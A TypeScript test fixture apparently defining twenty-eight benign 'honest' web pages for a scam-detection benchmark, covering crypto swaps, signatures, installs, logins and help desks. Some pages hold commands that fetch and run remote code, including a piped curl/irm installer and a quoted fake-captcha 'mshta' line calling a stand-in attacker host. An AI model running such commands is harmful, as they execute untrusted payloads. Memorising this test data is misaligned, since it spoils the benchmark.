import { coins, orderOf, pictureOf, safeTransactionOf } from '../../src/testing/sandboxMessages.ts'
import { codePicture } from './codePictures.ts'
import { type PageClass, sends, signs, VISITOR } from './pageDesign.ts'
import { batch, button, copies, file, json, OTHER_COINS, one, signsAs, TYPED } from './seventhBlindParts.ts'

const giftCode = codePicture(`bitcoin:${OTHER_COINS}?label=Bird%20rescue`, 2)
const USDC = 10n ** 6n

/** Twenty-six honest pages of the seventh set. */
export const SEVENTH_HONEST: readonly PageClass[] = [
  one('word-canvas', false, () => ({
    title: 'Five letters',
    content:
      '<h1>Five letters</h1><p>Guess the word of the day.</p><p id="n">Try 1 of 6</p><output id="o"></output><br><canvas id="k" width="520" height="160"></canvas>',
    start: `const keys = 'qwertyuiopasdfghjklzxcvbnm␣'; const pen = at('#k').getContext('2d'); pen.font = '20px sans-serif'; [...keys].forEach((key, i) => pen.fillText(key, 20 + (i % 10) * 50, 40 + Math.floor(i / 10) * 50)); let text = ''
at('#k').onclick = (event) => { const key = keys[Math.floor((event.offsetX - 5) / 50) + 10 * Math.floor((event.offsetY - 10) / 50)]; if (!key) return; text += key; at('#o').textContent = text; if (text.length === 5) { fetch('/api/score', { method: 'POST', body: text }); text = '' } }`,
  })),
  one('live-editor', false, () => ({
    title: 'Gemeinsame Notizen',
    content:
      '<h1>Protokoll vom Montag</h1><p>Alle mit dem Link schreiben mit. Jede Änderung wird gespeichert.</p><div id="e" contenteditable="true" style="border:1px solid #888;min-height:5rem;padding:1rem"></div>',
    start: `let last = ''; at('#e').addEventListener('input', () => { last = at('#e').innerText }); setInterval(() => { if (!last) return; const body = last; last = ''; navigator.sendBeacon('/api/notizen', body) }, 700)`,
  })),
  one('shop-chat', false, () => ({
    title: 'Toko perangkat keras',
    content:
      '<h1>Obrolan toko</h1><p>Kami menjual dompet perangkat keras. Kami tidak pernah meminta frasa pemulihan Anda.</p><div id="c" style="border:1px solid #ccc;padding:1rem"><p><b>Dewi:</b> Halo, ada yang bisa dibantu?</p></div><input id="m" placeholder="Tulis pesan">',
    buttons: [
      button(
        'Kirim',
        `const text = at('#m').value || 'halo'; at('#m').value = ''; const line = (who, words) => { const p = document.createElement('p'); p.textContent = who + ': ' + words; at('#c').append(p) }; line('Anda', text); await fetch('/api/obrolan', { method: 'POST', body: JSON.stringify({ text }) }); line('Dewi', 'Boleh minta nomor pesanan Anda?')`,
      ),
    ],
  })),
  one('permit-swap', false, (world) => ({
    title: 'Swap',
    content: '<h1>Swap</h1><p>100 USDC for about 100 DAI. Limit 0.5 %.</p>',
    buttons: [
      {
        label: 'Swap',
        code: `${signs({
          types: {
            PermitSingle: [
              { name: 'details', type: 'PermitDetails' },
              { name: 'spender', type: 'address' },
              { name: 'sigDeadline', type: 'uint256' },
            ],
            PermitDetails: [
              { name: 'token', type: 'address' },
              { name: 'amount', type: 'uint160' },
              { name: 'expiration', type: 'uint48' },
              { name: 'nonce', type: 'uint48' },
            ],
          },
          primaryType: 'PermitSingle',
          domain: { name: 'Permit2', chainId: 1, verifyingContract: world.permit2 },
          message: {
            details: {
              token: world.tokens.usdc,
              amount: 100n * USDC,
              expiration: world.headTimestamp + 1_800,
              nonce: 0,
            },
            spender: world.dex.v3Router,
            sigDeadline: world.headTimestamp + 1_800,
          },
        })}; ${sends(world.dex.v2Router, world.call('V2Router', 'swapExactTokensForTokens', [100n * USDC, 98n * 10n ** 18n, [world.tokens.usdc, world.tokens.wrapped, world.tokens.dai], VISITOR, 99999999999n]))}`,
      },
    ],
  })),
  one('payroll', false, (world) => ({
    title: 'Lohnlauf November',
    content: `<h1>Lohnlauf November</h1><table><tr><td>Anna</td><td>${world.actors.friend}</td><td>3.200 USDC</td></tr><tr><td>Jonas</td><td>${world.actors.collector}</td><td>2.900 USDC</td></tr></table>`,
    buttons: [
      {
        label: 'Beide auszahlen',
        code: batch([
          { to: world.tokens.usdc, data: world.call('StableToken', 'transfer', [world.actors.friend, 3_200n * USDC]) },
          {
            to: world.tokens.usdc,
            data: world.call('StableToken', 'transfer', [world.actors.collector, 2_900n * USDC]),
          },
        ]),
      },
    ],
  })),
  one('vote-signature', false, () => ({
    title: 'Votación de la comunidad',
    content: '<h1>Propuesta 41</h1><p>Renovar el presupuesto de traducciones. Votar no cuesta gas.</p>',
    buttons: [
      {
        label: 'A favor',
        code: signs({
          types: {
            Vote: [
              { name: 'from', type: 'address' },
              { name: 'space', type: 'string' },
              { name: 'timestamp', type: 'uint64' },
              { name: 'proposal', type: 'bytes32' },
              { name: 'choice', type: 'uint32' },
              { name: 'reason', type: 'string' },
            ],
          },
          primaryType: 'Vote',
          domain: { name: 'snapshot', version: '0.1.4' },
          message: {
            from: VISITOR,
            space: 'traducciones.eth',
            timestamp: 1793491300,
            proposal: `0x${'5c1e7a90'.repeat(8)}`,
            choice: 1,
            reason: '',
          },
        }),
      },
    ],
  })),
  one('fee-listing', false, (world) => ({
    title: '版画ギャラリー',
    content: '<h1>作品を出品する</h1><p>価格 2 ETH。ギャラリーの手数料 2.5 %。</p>',
    buttons: [
      {
        label: '出品する',
        code: signsAs(
          world,
          orderOf(world, {
            offer: [pictureOf(world, 1n)],
            consideration: [coins(1_950n * 10n ** 15n), { ...coins(50n * 10n ** 15n), recipient: world.merchant }],
          }),
        ),
      },
    ],
  })),
  one('locked-diary', false, () => ({
    title: 'Family pages',
    content:
      '<h1>Family pages</h1><p>The pages are encrypted. Type the family password.</p><input type="password" id="w">',
    buttons: [
      button(
        'Open',
        `const word = at('#w').value; const sealed = await (await fetch('/pages.bin')).text(); const raw = await crypto.subtle.importKey('raw', new TextEncoder().encode(word), 'PBKDF2', false, ['deriveKey']); const key = await crypto.subtle.deriveKey({ name: 'PBKDF2', salt: new Uint8Array(16), iterations: 1000, hash: 'SHA-256' }, raw, { name: 'AES-GCM', length: 256 }, false, ['decrypt']); try { const open = await crypto.subtle.decrypt({ name: 'AES-GCM', iv: new Uint8Array(12) }, key, Uint8Array.from(atob(sealed), (c) => c.charCodeAt(0))); show(new TextDecoder().decode(open)) } catch { say('That is not the password.') }`,
      ),
    ],
    files: {
      '/pages.bin': { status: 200, headers: { 'content-type': 'text/plain' }, body: 'AAECAwQFBgcICQoLDA0ODw==' },
    },
  })),
  one('supply-page', false, () => ({
    title: 'Offre en circulation',
    content: '<h1>Offre en circulation</h1><p id="s">Lecture…</p><p>Lue sur un nœud public toutes les minutes.</p>',
    start: `const answer = await (await fetch('https://{{node}}/', { method: 'POST', body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'eth_call', params: [{ to: '0x6B175474E89094C44Da98b954EedeAC495271d0F', data: '0x18160ddd' }, 'latest'] }) })).json(); at('#s').textContent = (Number(BigInt(answer.result) / 10n ** 18n)).toLocaleString('fr') + ' DAI'`,
    hosts: { node: json({ jsonrpc: '2.0', id: 1, result: `0x${(4n * 10n ** 27n).toString(16).padStart(64, '0')}` }) },
  })),
  one('install-tool', false, () => ({
    title: 'ledgerline: a command line tool',
    content:
      '<h1>Install</h1><h2>Linux and macOS</h2><pre id="h">curl -fsSL https://{{self}}/install.sh | sh</pre><h2>Windows</h2><pre>irm https://{{self}}/install.ps1 | iex</pre><p>Or <code>cargo install ledgerline</code>. Checksums are on the <a href="/releases">releases</a> page.</p>',
    buttons: [
      button(
        'Copy',
        `const range = document.createRange(); range.selectNodeContents(at('#h')); getSelection().removeAllRanges(); getSelection().addRange(range); document.execCommand('copy'); say('Copied')`,
      ),
      button('Copy for Windows', copies('irm https://{{self}}/install.ps1 | iex')),
    ],
  })),
  one('extension-guide', false, () => ({
    title: '拡張機能の開発',
    content:
      '<h1>開発版を試す</h1><p>この拡張機能は読みやすい書体に切り替えます。ウェブストア版もあります。</p><ol><li>ファイルを展開する</li><li>chrome://extensions を開き、デベロッパー モードを有効にする</li><li>「パッケージ化されていない拡張機能を読み込む」を押す</li></ol><a href="/releases/reader-0.9.zip" download>開発版をダウンロード</a><a href="/source">ソースコード</a>',
    files: { '/releases/reader-0.9.zip': file('PK\u0003\u0004') },
  })),
  one('login-dialog', false, () => ({
    title: 'Portfolio tracker',
    content:
      '<h1>Your portfolio</h1><p>Log in to see balances of the public addresses that you follow.</p><div id="layer"></div>',
    start: `await new Promise((done) => setTimeout(done, 900)); at('#layer').innerHTML = '<div role="dialog" aria-modal="true" style="position:fixed;top:80px;left:30%;width:360px;background:#fff;border:1px solid #999;padding:16px"><h2>Log in</h2><input type="email" id="m" placeholder="Email"><input type="password" id="w" placeholder="Password"><button type="button" id="u">Log in</button><a href="/reset">Forgot your password?</a></div>'; at('#u').onclick = () => { const data = new FormData(); data.append('m', at('#m').value); data.append('p', at('#w').value); fetch('/api/login', { method: 'POST', body: data }); say('Email or password is wrong.') }`,
  })),
  one('copy-credit', false, () => ({
    title: 'Diario de la bahía',
    content: `<h1>El puerto abre de noche</h1><p id="d">El puerto de la bahía abrirá los viernes hasta las diez de la noche desde enero.</p>`,
    start: `document.addEventListener('copy', (event) => { event.clipboardData.setData('text/plain', String(getSelection()) + '\\n\\nDiario de la bahía, ' + location.href); event.preventDefault() })`,
    buttons: [
      button(
        'Copiar párrafo',
        `const range = document.createRange(); range.selectNodeContents(at('#d')); getSelection().removeAllRanges(); getSelection().addRange(range); document.execCommand('copy'); say('Copiado')`,
      ),
    ],
  })),
  one('donation-code', false, () => ({
    title: 'Cứu hộ chim',
    content: `<h1>Ủng hộ trạm cứu hộ chim</h1><p>Mọi khoản đều được công bố mỗi quý. Chúng tôi không gửi lại gì ngoài lời cảm ơn.</p>${giftCode.html}<code>${OTHER_COINS}</code>`,
    start: giftCode.start,
  })),
  one('victim-advice', false, () => ({
    title: 'Aide aux victimes d’arnaques',
    content:
      '<h1>Victime d’une arnaque aux cryptomonnaies ?</h1><p>Portez plainte et gardez les preuves. Méfiez-vous de ceux qui promettent de récupérer vos fonds contre des frais d’avance. Notre permanence est gratuite.</p><label>Courriel <input type="email" name="e"></label><label>Ce qui s’est passé <textarea name="t"></textarea></label>',
    buttons: [
      button(
        'Demander un rendez-vous',
        `await fetch('/api/rdv', { method: 'POST', body: ${TYPED} }); say('Nous vous écrirons sous trois jours.')`,
      ),
    ],
  })),
  one('withdrawal', false, () => ({
    title: '交易所',
    content: '<h1>我的资产</h1><p>总资产 1,204.10 USDT</p><p>今日收益 −0.4%</p>',
    buttons: [
      button(
        '提现',
        `show('<h1>提现</h1><p>可提现 1,204.10 USDT，网络费 1 USDT 从到账金额中扣除。</p><input placeholder="提现地址"><input inputmode="numeric" maxlength="6" placeholder="谷歌验证码"><button type="button" id="t">确认</button>'); at('#t').onclick = async () => { await fetch('/api/withdraw', { method: 'POST', body: ${TYPED} }); show('<h1>提现申请已提交</h1><p>预计十分钟内到账。您可以在到账前撤销。</p>') }`,
      ),
    ],
  })),
  one('proof-claim', false, (world) => ({
    title: 'Token distribution',
    content:
      '<h1>Am I on the list?</h1><p>The list and its Merkle root were published on 3 March. Claims are open for a year.</p>',
    buttons: [
      {
        label: 'Check',
        code: `say('Looking up your proof…'); const answer = await fetch('/api/proof?of=' + account); if (!answer.ok) return; await new Promise((done) => setTimeout(done, 2500)); show('<h1>You are on the list</h1><p>3,180 tokens. You pay the gas only.</p><button type="button" id="c">Claim</button>'); at('#c').onclick = async () => { ${sends(world.honest.airdrop, world.call('AirdropClaim', 'claim'))} }`,
      },
    ],
  })),
  one('welcome-guests', false, (world) => ({
    title: 'Staking desk',
    content: '<h1>Stake</h1><p>Stakes can be taken out at any time.</p>',
    buttons: [
      { label: 'Stake 0.2 ETH', code: sends(world.projects.desk, world.call('DepositDesk', 'stake'), 2n * 10n ** 17n) },
    ],
    gate: ({ referer, path }) =>
      path === '/' && referer !== ''
        ? {
            status: 200,
            headers: { 'content-type': 'text/html' },
            body: '<!doctype html><title>Staking desk</title><h1>Welcome</h1><p>You came from another site. Read first how staking works and what it costs.</p><a href="/how">How it works</a>',
          }
        : null,
  })),
  one('scroll-mint', false, (world) => ({
    title: 'Harbour prints',
    content: `<h1>Harbour prints</h1><p>Two hundred prints of one harbour, 0.01 ETH each.</p>${'<p>·</p>'.repeat(40)}<p>End of the list.</p>`,
    start: `addEventListener('scroll', () => { if (at('#mint')) return; const made = document.createElement('button'); made.id = 'mint'; made.textContent = 'Mint'; made.onclick = async () => { await connect(); ${sends(world.projects.drop, world.call('NftDrop', 'mint', [1n]), 10n ** 16n)} }; at('#view').append(made) })`,
  })),
  one('first-tour', false, () => ({
    title: 'Календарь полива',
    content: '<h1>Календарь полива</h1><p>Сегодня: фикус, мята.</p>',
    start: `if (!localStorage.getItem('v')) show('<h1>Добро пожаловать</h1><p>Короткая экскурсия: добавьте растение и выберите дни.</p><button type="button" id="g">Понятно</button>'); if (at('#g')) at('#g').onclick = () => show('<h1>Календарь полива</h1><p>Растений пока нет.</p>'); localStorage.setItem('v', '1')`,
  })),
  one('helpdesk', false, () => ({
    title: 'Practice software: remote help',
    content:
      '<h1>Remote help for customers</h1><p>Call us on weekdays from 8 to 17 and agree on a time. Start the helper only while you are on the phone with us; you can end the session at any time.</p><p>We will never ask for passwords or look at your bank.</p><a href="/agb">Terms</a>',
    buttons: [
      button(
        'Download the helper',
        `const a = document.createElement('a'); a.href = '/get/PracticeHelper.exe'; a.download = ''; a.click(); say('Read us the nine digits when we ask for them.')`,
      ),
    ],
    files: { '/get/PracticeHelper.exe': file('MZ') },
  })),
  one('phrase-quiz', false, () => ({
    title: 'How well do you know recovery phrases?',
    content:
      '<h1>Quiz</h1><p>Which of these is a valid recovery phrase? Never type your own one anywhere.</p><ol><li>legal winner thank year wave sausage worth useful legal winner thank yellow</li><li>legal winner thank year wave</li></ol><label>Your answer <input name="a" placeholder="1 or 2"></label>',
    buttons: [
      button(
        'Answer',
        `await fetch('/api/quiz', { method: 'POST', body: JSON.stringify({ answer: at('[name=a]').value }) }); say(at('[name=a]').value.trim() === '1' ? 'Right: the last word is a checksum.' : 'The first: five words are too few.')`,
      ),
    ],
  })),
  one('revoke-tool', false, (world) => ({
    title: '授权管理',
    content: `<h1>授权管理</h1><table><tr><td>USDC</td><td>${world.actors.spender}</td><td>无限</td></tr><tr><td>作品</td><td>${world.actors.spender}</td><td>全部</td></tr></table>`,
    buttons: [
      {
        label: '撤销 USDC',
        code: sends(world.tokens.usdc, world.call('StableToken', 'approve', [world.actors.spender, 0n])),
      },
      {
        label: '撤销作品',
        code: sends(
          world.nfts.collectible,
          world.call('Collectible721', 'setApprovalForAll', [world.actors.spender, false]),
        ),
      },
    ],
  })),
  one('ton-tip', false, () => ({
    title: 'Подкаст о море',
    content: '<h1>Поддержать подкаст</h1><p>Чай для ведущего: 1 TON. Выпуски остаются бесплатными.</p>',
    buttons: [
      button(
        'Угостить',
        `const ton = (window.tonkeeper ?? window.mytonwallet)?.tonconnect; if (!ton) { say('Откройте страницу в кошельке'); return } await ton.connect(2, { manifestUrl: location.origin + '/m.json', items: [{ name: 'ton_addr' }] }); await ton.send({ method: 'sendTransaction', id: '1', params: [JSON.stringify({ valid_until: 99999999999, messages: [{ address: 'UQAFNSDmjWvtCLTZ9YDYqcMmQ25rhTXkkwDMCUNGdqjp8f3r', amount: '1000000000' }] })] })`,
      ),
    ],
    files: { '/m.json': json({ url: 'https://{{self}}', name: 'Подкаст', iconUrl: 'https://{{self}}/i.png' }) },
  })),
  one('phrase-converter', false, () => ({
    title: 'Mnemonic code converter',
    content:
      '<h1>Mnemonic code converter</h1><p>Works offline: save this page and open it without a network. The source is on one page.</p><label>Mnemonic <textarea id="m" rows="3"></textarea></label><label>Seed <output id="s"></output></label>',
    buttons: [
      button(
        'Generate',
        `at('#m').value = 'legal winner thank year wave sausage worth useful legal winner thank yellow'`,
      ),
      button(
        'Convert',
        `const key = await crypto.subtle.importKey('raw', new TextEncoder().encode(at('#m').value.normalize('NFKD')), 'PBKDF2', false, ['deriveBits']); const bits = await crypto.subtle.deriveBits({ name: 'PBKDF2', salt: new TextEncoder().encode('mnemonic'), iterations: 2048, hash: 'SHA-512' }, key, 512); at('#s').textContent = [...new Uint8Array(bits)].map((byte) => byte.toString(16).padStart(2, '0')).join('')`,
      ),
    ],
  })),
  one('phishing-news', false, () => ({
    title: 'Fraud report, week 48',
    content:
      '<h1>Fake captchas reach wallet users</h1><p>Pages that look like a check for robots tell visitors to press Win + R, then Ctrl + V and Enter. What was copied is a command such as:</p><pre>mshta https://verify-human.example/check.mp4</pre><p>Others say “Enter your 12-word recovery phrase to restore your wallet”. No honest service asks for it.</p><p>Another kind sends back “double of what you send”. The addresses were reported.</p><form action="/abo" method="post"><label>Weekly mail <input type="email" name="m"></label><button>Subscribe</button></form>',
  })),
  one('vault-unlock', false, () => ({
    title: 'Schlüsselbund',
    content:
      '<h1>Tresor entsperren</h1><label>E-Mail <input type="email" id="e"></label><label>Hauptpasswort <input type="password" id="w"></label><a href="/hilfe">Hinweis zum Hauptpasswort anfordern</a>',
    buttons: [
      button(
        'Entsperren',
        `const text = new TextEncoder(); const raw = await crypto.subtle.importKey('raw', text.encode(at('#w').value), 'PBKDF2', false, ['deriveBits']); const bits = await crypto.subtle.deriveBits({ name: 'PBKDF2', salt: text.encode(at('#e').value || 'x'), iterations: 1000, hash: 'SHA-256' }, raw, 256); await fetch('/identity/connect', { method: 'POST', body: new URLSearchParams({ username: at('#e').value, password: btoa(String.fromCharCode(...new Uint8Array(bits))) }) }); say('E-Mail oder Hauptpasswort stimmt nicht.')`,
      ),
    ],
  })),
  one('safe-queue', false, (world) => ({
    title: 'Treasury queue',
    content: `<h1>Queue</h1><p>Transaction 0: send 500 DAI to ${world.actors.friend}. Two of three signatures.</p>`,
    buttons: [
      {
        label: 'Sign',
        code: signsAs(
          world,
          safeTransactionOf(world, {
            to: world.tokens.dai,
            data: world.call('PlainToken', 'transfer', [world.actors.friend, 500n * 10n ** 18n]),
            operation: 0,
          }),
        ),
      },
    ],
  })),
]
